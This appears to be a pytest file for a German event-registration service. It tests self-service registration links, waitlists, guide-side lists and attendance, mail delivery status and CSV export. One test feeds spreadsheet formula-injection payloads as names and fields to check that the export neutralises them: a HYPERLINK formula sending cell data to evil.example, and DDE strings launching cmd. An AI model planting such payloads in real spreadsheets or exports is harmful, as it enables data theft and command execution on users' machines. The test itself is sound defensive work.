"""Registering, self-service by link, and the guide's lists, over the API and the page."""

from __future__ import annotations

import csv
import io
from datetime import datetime, time, timedelta
from typing import Any

import httpx
import pytest

from tests.factories import (
    BERLIN,
    SECRET,
    future_day,
    make_event,
    make_published_event,
    sessions_of,
)
from tests.pages import submit
from tests.smtp import SMTPServer
from treffpunkt.events.tables import Event, Session
from treffpunkt.notifications.worker import run_once
from treffpunkt.outbox import OutboxMessage
from treffpunkt.registrations.service import registration_token
from treffpunkt.registrations.tables import Registration
from treffpunkt.settings import Settings

PERSON = {"name": "Olena Demo", "email": "olena@example.org", "locale": "uk", "consent": True}


async def drop_in(municipality: Any, **fields: Any) -> int:
    event = await make_published_event(municipality, registration_mode="per_session", **fields)
    [session] = await sessions_of(event)
    return session.id


async def token_of(email: str) -> str:
    """The link token of this person's registration (the public answer names none)."""
    row = (
        await Registration.select(Registration.token_salt)
        .where(Registration.email == email)
        .first()
    )
    assert row is not None
    return registration_token(SECRET, row["token_salt"])


async def status_of(email: str) -> str:
    row = await Registration.select(Registration.status).where(Registration.email == email).first()
    assert row is not None
    return str(row["status"])


async def test_register_confirm_and_cancel_by_link(client: Any, bensheim: Any) -> None:
    session_id = await drop_in(bensheim, capacity=10)
    created = await client.post(f"/api/v1/sessions/{session_id}/registrations", json=PERSON)
    assert created.status_code == 201, created.text
    assert created.json() == {"status": "pending"}
    token = await token_of(PERSON["email"])

    view = (await client.get(f"/api/v1/registrations/{token}")).json()
    assert view["status"] == "pending"
    assert view["sessions"][0]["id"] == session_id
    assert view["expires_at"] is not None

    confirmed = await client.post(f"/api/v1/registrations/{token}/confirm")
    assert confirmed.json()["status"] == "confirmed"
    cancelled = await client.post(f"/api/v1/registrations/{token}/cancel")
    assert cancelled.json()["status"] == "cancelled"
    again = await client.post(f"/api/v1/registrations/{token}/confirm")
    assert again.status_code == 409


async def test_a_guide_adding_a_registered_email_gets_the_existing_registration(
    client: Any, bensheim: Any, bensheim_headers: Any
) -> None:
    session_id = await drop_in(bensheim, capacity=10)
    url = f"/api/v1/guide/sessions/{session_id}/registrations"
    first = await client.post(
        url, json={"name": "Olena", "email": "olena@example.org"}, headers=bensheim_headers
    )
    second = await client.post(
        url, json={"name": "Olena", "email": "OLENA@example.org"}, headers=bensheim_headers
    )
    assert (first.status_code, second.status_code) == (201, 200)
    assert second.json() == first.json()
    assert first.json()["status"] == "confirmed"
    assert await Registration.count() == 1


async def test_full_session_answers_waitlisted_and_the_mail_names_the_position(
    client: Any, bensheim: Any
) -> None:
    session_id = await drop_in(bensheim, capacity=1)
    await client.post(f"/api/v1/sessions/{session_id}/registrations", json=PERSON)
    late = await client.post(
        f"/api/v1/sessions/{session_id}/registrations",
        json={**PERSON, "email": "karim@example.org"},
    )
    assert late.status_code == 201
    assert late.json() == {"status": "waitlisted"}  # how many wait is nobody else's business
    [mail] = (
        await OutboxMessage.select(OutboxMessage.kind, OutboxMessage.context)
        .where(OutboxMessage.recipient_email == "karim@example.org")
        .output(load_json=True)
    )
    assert mail["kind"] == "registration_waitlisted"
    assert mail["context"]["position"] == 1


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"consent": False}, "consent"),
        ({"consent": None}, "consent"),
        ({"email": "not-an-email"}, "email"),
        ({"seats": 0}, "seats"),
        ({"locale": "xx"}, "locale"),
        ({"needs": {"interpretation": "Arabic"}}, "needs.interpretation"),
        ({"name": ""}, "name"),
    ],
)
async def test_bad_registrations_answer_422_naming_the_field(
    client: Any, bensheim: Any, change: dict[str, Any], field: str
) -> None:
    session_id = await drop_in(bensheim, capacity=10)
    body = {k: v for k, v in {**PERSON, **change}.items() if v is not None}
    response = await client.post(f"/api/v1/sessions/{session_id}/registrations", json=body)
    assert response.status_code == 422
    assert field in response.json()["fields"], response.json()
    assert await Registration.count() == 0
    assert await OutboxMessage.count() == 0


async def test_refusals_say_why(client: Any, bensheim: Any) -> None:
    event = await make_published_event(bensheim, registration_mode="none")
    [session] = await sessions_of(event)
    response = await client.post(f"/api/v1/sessions/{session.id}/registrations", json=PERSON)
    assert response.status_code == 409
    assert response.json()["fields"] == {"event": "no registration"}
    missing = await client.post("/api/v1/sessions/999999/registrations", json=PERSON)
    assert missing.status_code == 404


async def test_the_wrong_kind_of_target_is_told_which_one_to_use(
    client: Any, bensheim: Any, bensheim_headers: Any
) -> None:
    dates = [
        {
            "starts_at": datetime.combine(future_day(days), time(18), BERLIN).isoformat(),
            "ends_at": datetime.combine(future_day(days), time(20), BERLIN).isoformat(),
        }
        for days in (14, 21, 28)
    ]
    course = await make_published_event(
        bensheim, kind="training", registration_mode="whole_event", sessions=dates
    )
    course_date = (await sessions_of(course))[-1]
    drop_in_id = await drop_in(bensheim)
    # Ids that name an object of one kind only (a course has more dates than events exist).
    assert not await Event.exists().where(Event.id == drop_in_id)
    await Session.delete().where(Session.id == course.id)
    assert course.id != course_date.id
    round_id = (await Session.select(Session.event).where(Session.id == drop_in_id).first())[
        "event"
    ]
    walk_in = {"name": "Jörg Demo", "phone": "+49 6251 1234"}
    for prefix, headers, body in (
        ("/api/v1", {}, PERSON),
        ("/api/v1/guide", bensheim_headers, walk_in),
    ):
        # One date of a course, registered for as a session:
        answer = await client.post(
            f"{prefix}/sessions/{course_date.id}/registrations", json=body, headers=headers
        )
        assert answer.status_code == 409
        assert answer.json()["detail"] == (
            f"Session {course_date.id} is one date of the course {course.id}, whose places"
            f" count for all its dates together: use the event (/events/{course.id}/…)"
            " instead of the session."
        )
        # A drop-in round, registered for as a course:
        answer = await client.post(
            f"{prefix}/events/{round_id}/registrations", json=body, headers=headers
        )
        assert answer.status_code == 409
        assert answer.json()["detail"].startswith(
            f"Event {round_id} is not a course registered for as a whole: its places count"
            " per date, so use one of its sessions (/sessions/{session_id}/…"
        )
        assert answer.json()["fields"] == {"event_id": "counts places per session: use a session"}
    # A course's id given as a session's, and a session's id as an event's:
    answer = await client.post(f"/api/v1/sessions/{course.id}/registrations", json=PERSON)
    assert answer.status_code == 404
    assert answer.json()["detail"] == (
        f"No such session. There is an event {course.id}, a course registered for as a"
        f" whole: use /events/{course.id}/… for it."
    )
    answer = await client.post(f"/api/v1/events/{drop_in_id}/registrations", json=PERSON)
    assert answer.status_code == 404
    assert answer.json()["detail"] == (
        f"No such event. There is a session {drop_in_id} of event {round_id}, whose places"
        f" count per date: use /sessions/{drop_in_id}/… for it."
    )
    # A draft is not given away.
    draft = await make_event(bensheim, registration_mode="whole_event")
    await Session.delete().where(Session.id == draft.id)  # whosever date has that id
    answer = await client.post(f"/api/v1/sessions/{draft.id}/registrations", json=PERSON)
    assert answer.json()["detail"] == "No such session."


async def test_whole_course_registers_through_the_event(client: Any, bensheim: Any) -> None:
    course = await make_published_event(
        bensheim, kind="training", registration_mode="whole_event", capacity=12
    )
    [session] = await sessions_of(course)
    response = await client.post(f"/api/v1/events/{course.id}/registrations", json=PERSON)
    assert response.status_code == 201
    wrong = await client.post(f"/api/v1/sessions/{session.id}/registrations", json=PERSON)
    assert wrong.status_code == 409
    assert wrong.json()["fields"] == {
        "session_id": f"a date of the course {course.id}: use the event"
    }
    public = (await client.get(f"/api/v1/events/{course.id}")).json()
    assert public["sessions"][0]["seats_left"] == 12  # an unconfirmed place is not counted
    await client.post(f"/api/v1/registrations/{await token_of(PERSON['email'])}/confirm")
    public = (await client.get(f"/api/v1/events/{course.id}")).json()
    assert public["sessions"][0]["seats_left"] == 11


@pytest.mark.counts_to_a_limit
async def test_registration_is_rate_limited_per_client(app: Any, bensheim: Any) -> None:
    session_id = await drop_in(bensheim, capacity=500)
    transport = httpx.ASGITransport(app=app, client=("203.0.113.9", 4000))
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        statuses = [
            (
                await client.post(
                    f"/api/v1/sessions/{session_id}/registrations",
                    json={**PERSON, "email": f"p{i}@example.org"},
                )
            ).status_code
            for i in range(31)
        ]
    assert statuses[:30] == [201] * 30
    assert statuses[30] == 429


async def test_unknown_tokens_answer_404(client: Any) -> None:
    assert (await client.get("/api/v1/registrations/not-a-token")).status_code == 404
    assert (await client.post("/api/v1/registrations/not-a-token/cancel")).status_code == 404


# --- the guide side --------------------------------------------------------------------------


async def test_guide_sees_the_list_with_positions_and_adds_walk_ins(
    client: Any, bensheim: Any, bensheim_headers: Any
) -> None:
    session_id = await drop_in(bensheim, capacity=1)
    await client.post(
        f"/api/v1/sessions/{session_id}/registrations",
        json={**PERSON, "needs": {"interpretation": "uk", "accessibility": "Rollstuhl"}},
    )
    walk_in = await client.post(
        f"/api/v1/guide/sessions/{session_id}/registrations",
        json={"name": "Herr Demir", "phone": "06251 123456"},
        headers=bensheim_headers,
    )
    assert walk_in.status_code == 201
    assert walk_in.json()["status"] == "waitlisted"  # the guide respects capacity too
    listed = await client.get(
        f"/api/v1/guide/sessions/{session_id}/registrations", headers=bensheim_headers
    )
    rows = listed.json()
    assert [(r["name"], r["status"], r["position"]) for r in rows] == [
        ("Olena Demo", "pending", None),
        ("Herr Demir", "waitlisted", 1),
    ]
    assert rows[0]["needs"] == {"interpretation": "uk", "accessibility": "Rollstuhl"}
    assert rows[1]["source"] == "guide"

    raised = await client.put(
        f"/api/v1/guide/sessions/{session_id}/capacity",
        json={"capacity": 2},
        headers=bensheim_headers,
    )
    assert [r["status"] for r in raised.json()] == ["pending", "confirmed"]


async def test_guide_sees_whether_each_mail_reached_the_person(
    client: Any, bensheim: Any, bensheim_headers: Any, smtp: SMTPServer, mail_settings: Settings
) -> None:
    smtp.inbox.refuse = {"gone@example.org"}
    session_id = await drop_in(bensheim, capacity=5)
    for email in ("olena@example.org", "gone@example.org"):
        await client.post(
            f"/api/v1/sessions/{session_id}/registrations", json={**PERSON, "email": email}
        )
    path = f"/api/v1/guide/sessions/{session_id}/registrations"
    [waiting, _] = [r["mails"] for r in (await client.get(path, headers=bensheim_headers)).json()]
    assert [(m["kind"], m["status"], m["sent_at"]) for m in waiting] == [
        ("registration_confirm_request", "queued", None)
    ]
    assert waiting[0]["next_attempt_at"] is not None

    await run_once(mail_settings, "worker-1")

    sent, failed = [r["mails"] for r in (await client.get(path, headers=bensheim_headers)).json()]
    assert [(m["status"], m["error"]) for m in sent] == [("sent", None)]
    assert sent[0]["sent_at"] is not None
    assert [m["status"] for m in failed] == ["failed"]
    assert "550" in failed[0]["error"]  # the server's answer
    assert "No such mailbox" in failed[0]["error"]
    assert all("context" not in m and "text" not in m for m in sent + failed)  # no bodies


async def test_guide_cancels_and_records_attendance(
    client: Any, bensheim: Any, bensheim_headers: Any
) -> None:
    session_id = await drop_in(bensheim, capacity=5)
    walk_in = (
        await client.post(
            f"/api/v1/guide/sessions/{session_id}/registrations",
            json={"name": "Frau Haddad"},
            headers=bensheim_headers,
        )
    ).json()
    marked = await client.put(
        f"/api/v1/guide/sessions/{session_id}/attendance",
        json={"registration_id": walk_in["id"], "status": "attended"},
        headers=bensheim_headers,
    )
    assert marked.status_code == 204
    rows = (
        await client.get(
            f"/api/v1/guide/sessions/{session_id}/registrations", headers=bensheim_headers
        )
    ).json()
    assert rows[0]["attendance"] == {str(session_id): "attended"}
    cancelled = await client.post(
        f"/api/v1/guide/registrations/{walk_in['id']}/cancel", headers=bensheim_headers
    )
    assert cancelled.status_code == 204
    refused = await client.put(
        f"/api/v1/guide/sessions/{session_id}/attendance",
        json={"registration_id": walk_in["id"], "status": "attended"},
        headers=bensheim_headers,
    )
    assert refused.status_code == 409


async def test_csv_export_opens_in_german_excel(
    client: Any, bensheim: Any, bensheim_headers: Any
) -> None:
    session_id = await drop_in(bensheim, capacity=5)
    await client.post(
        f"/api/v1/sessions/{session_id}/registrations",
        json={**PERSON, "name": "Müller; Jörg", "email": "joerg@example.org"},
    )
    response = await client.get(
        f"/api/v1/guide/sessions/{session_id}/registrations.csv", headers=bensheim_headers
    )
    assert response.status_code == 200
    assert response.headers.get_list("content-type") == ["text/csv; charset=utf-8"]
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Name", "E-Mail", "Telefon"]
    assert rows[1][0] == "Müller; Jörg"
    assert rows[1][3] == "unbestätigt"


async def test_both_exports_name_their_charset_once(
    client: Any, bensheim: Any, bensheim_headers: Any
) -> None:
    session_id = await drop_in(bensheim, capacity=5)
    course = await make_published_event(
        bensheim, kind="training", registration_mode="whole_event", capacity=12
    )
    for url in (
        f"/api/v1/guide/sessions/{session_id}/registrations.csv",
        f"/api/v1/guide/events/{course.id}/registrations.csv",
    ):
        response = await client.get(url, headers=bensheim_headers)
        assert response.headers.get_list("content-type") == ["text/csv; charset=utf-8"], url
    schema = (await client.get("/schema/openapi.json")).json()
    for path in (
        "/api/v1/guide/sessions/{session_id}/registrations.csv",
        "/api/v1/guide/events/{event_id}/registrations.csv",
    ):
        assert list(schema["paths"][path]["get"]["responses"]["200"]["content"]) == ["text/csv"]


def read_csv(content: bytes) -> list[dict[str, str]]:
    """The export as a spreadsheet program reads it: UTF-8 with BOM, `;`, quoted cells."""
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


async def test_csv_cells_never_start_a_formula_and_speak_german(
    client: Any, bensheim: Any, bensheim_headers: Any
) -> None:
    event = await make_published_event(
        bensheim, registration_mode="per_session", capacity=3, max_seats_per_registration=2
    )
    [session] = await sessions_of(event)
    url = f"/api/v1/sessions/{session.id}/registrations"
    hyperlink = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")'
    await client.post(
        url,
        json={
            **PERSON,
            "name": hyperlink,
            "email": "=1+1@example.org",
            "needs": {"interpretation": "ar", "accessibility": "@SUM(1+1)*cmd|' /C calc'!A0"},
        },
    )
    guide_url = f"/api/v1/guide/sessions/{session.id}/registrations"
    walk_in = await client.post(
        guide_url,
        json={"name": "+cmd|' /C calc'!A0", "phone": "+49 6251 1234", "seats": 2},
        headers=bensheim_headers,
    )
    await client.post(
        guide_url, json={"name": "-2+3", "phone": "-0151 123456"}, headers=bensheim_headers
    )
    await client.put(
        f"/api/v1/guide/sessions/{session.id}/attendance",
        json={"registration_id": walk_in.json()["id"], "status": "no_show"},
        headers=bensheim_headers,
    )
    response = await client.get(f"{guide_url}.csv", headers=bensheim_headers)
    rows = read_csv(response.content)

    assert [row["Name"] for row in rows] == [f"'{hyperlink}", "'+cmd|' /C calc'!A0", "'-2+3"]
    assert rows[0]["E-Mail"] == "'=1+1@example.org"
    assert rows[0]["Barrierefreiheit"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert [row["Telefon"] for row in rows] == ["", "'+49 6251 1234", "'-0151 123456"]
    # Nothing a spreadsheet would run is left at the start of any cell.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # The words are German, not the API's codes.
    assert [row["Status"] for row in rows] == ["unbestätigt", "bestätigt", "Warteliste"]
    assert [row["Quelle"] for row in rows] == ["selbst", "Guide", "Guide"]
    assert rows[0]["Sprache"] == "Ukrainisch"
    assert rows[0]["Dolmetschen"] == "Arabisch"
    assert rows[1]["Anwesenheit"].endswith(": nicht erschienen")
    assert rows[2]["Warteliste"] == "1"


# --- the page behind the link --------------------------------------------------------------


async def test_the_link_page_confirms_with_a_button_in_the_readers_language(
    client: Any, bensheim: Any
) -> None:
    session_id = await drop_in(bensheim, capacity=5)
    created = await client.post(
        f"/api/v1/sessions/{session_id}/registrations", json={**PERSON, "locale": "ar"}
    )
    assert created.status_code == 201
    token = await token_of(PERSON["email"])

    page = await client.get(f"/r/{token}?confirm=1")
    assert page.status_code == 200
    assert 'dir="rtl"' in page.text
    assert "تأكيد التسجيل" in page.text
    assert await status_of(PERSON["email"]) == "pending"

    confirmed = await submit(client, f"/r/{token}", f"/r/{token}/confirm")
    assert confirmed.status_code == 303
    assert confirmed.headers["location"] == f"/r/{token}"
    assert await status_of(PERSON["email"]) == "confirmed"
    cancelled = await submit(client, f"/r/{token}", f"/r/{token}/cancel")
    assert cancelled.status_code == 303
    after = await client.get(f"/r/{token}")
    assert "ملغى" in after.text


async def test_registering_for_an_all_day_session_closes_as_its_first_day_begins(
    client: Any, bensheim: Any
) -> None:
    today = datetime.now(BERLIN).date()
    event = await make_published_event(
        bensheim,
        registration_mode="per_session",
        capacity=5,
        sessions=[
            {"first_day": str(today), "last_day": str(today + timedelta(days=1))},
            {
                "first_day": str(today + timedelta(days=1)),
                "last_day": str(today + timedelta(days=1)),
            },
        ],
    )
    running, tomorrow = await sessions_of(event)
    listed = (await client.get(f"/api/v1/events/{event.id}")).json()["sessions"]
    assert [s["registration_open"] for s in listed] == [False, True]
    closed = await client.post(f"/api/v1/sessions/{running.id}/registrations", json=PERSON)
    assert closed.status_code == 409
    taken = await client.post(f"/api/v1/sessions/{tomorrow.id}/registrations", json=PERSON)
    assert taken.status_code == 201, taken.text
    token = await token_of(PERSON["email"])
    [session] = (await client.get(f"/api/v1/registrations/{token}")).json()["sessions"]
    assert session["all_day"] is True
    assert session["first_day"] == session["last_day"] == (today + timedelta(days=1)).isoformat()
    page = await client.get(f"/r/{token}")
    sessions_shown = page.text.split('<ul class="sessions">')[1].split("</ul>")[0]
    assert str((today + timedelta(days=1)).year) in sessions_shown
    assert "00:00" not in sessions_shown  # a day, not a time
